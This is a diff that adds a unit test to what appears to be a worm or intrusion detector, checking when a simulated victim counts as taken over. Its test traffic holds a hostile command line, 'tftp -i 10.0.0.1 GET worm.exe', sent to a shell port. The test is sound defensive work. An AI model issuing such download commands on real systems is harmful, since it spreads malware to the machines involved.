@@ -179,6 +179,49 @@ static void shell_text_names_the_parent(void **state)
 	ww_plan_free(&plan);
 }
 
+/* One packet of anybody's making, and what the other side says to it. */
+static void one_packet_takes_nobody_over(void **state)
+{
+	static const struct {
+		uint8_t flags; /* 0: nothing */
+		uint32_t ack;
+		const char *state;
+	} rows[] = {
+		{0, 0, "attacked"},
+		{WW_TCP_RST | WW_TCP_ACK, 131, "attacked"},
+		{WW_TCP_ACK, 0x70000000, "attacked"}, /* of something else */
+		{WW_TCP_ACK, 131, "taken_over"},
+	};
+	(void)state;
+	for (size_t i = 0; i < WW_N(rows); i++) {
+		struct ww_plan *plan = plan_of(&advisory);
+		struct wire wire;
+		begin(&wire, plan);
+		send_tcp(&wire, ATTACKER, 1025, VICTIM, 4444, WW_TCP_ACK, 100, 500,
+			"tftp -i 10.0.0.1 GET worm.exe\r\n");
+		if (rows[i].flags)
+			send_tcp(&wire, VICTIM, 4444, ATTACKER, 1025, rows[i].flags, 500,
+				rows[i].ack, "");
+		assert_int_equal(ww_watch_finish(wire.watch), 0);
+		bool taken = strcmp(rows[i].state, "attacked") != 0;
+		const struct ww_host *host;
+		size_t n = 0;
+		for (; (host = ww_watch_host(wire.watch, n)); n++) {
+			assert_int_equal(host->infected, taken);
+			if (ww_ip_v4(&host->ip) == VICTIM)
+				assert_string_equal(host->state, rows[i].state);
+		}
+		assert_int_equal(n, 2);
+		const struct ww_finding *stage = &wire.last[WW_FINDING_STAGE];
+		assert_int_equal(strstr(stage->msg, "one direction only") == NULL, taken);
+		struct ww_watch_summary summary;
+		ww_watch_summarize(wire.watch, &summary);
+		assert_int_equal(summary.one_sided, !taken);
+		ww_watch_free(&wire.watch);
+		ww_plan_free(&plan);
+	}
+}
+
 static void silent_hosts_show_a_scanner(void **state)
 {
 	(void)state;
@@ -273,6 +316,7 @@ int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(shell_text_names_the_parent),
+		cmocka_unit_test(one_packet_takes_nobody_over),
 		cmocka_unit_test(silent_hosts_show_a_scanner),
 		cmocka_unit_test(a_bad_stage_text_is_told_with_its_line),
 		cmocka_unit_test(each_counter_has_its_place),
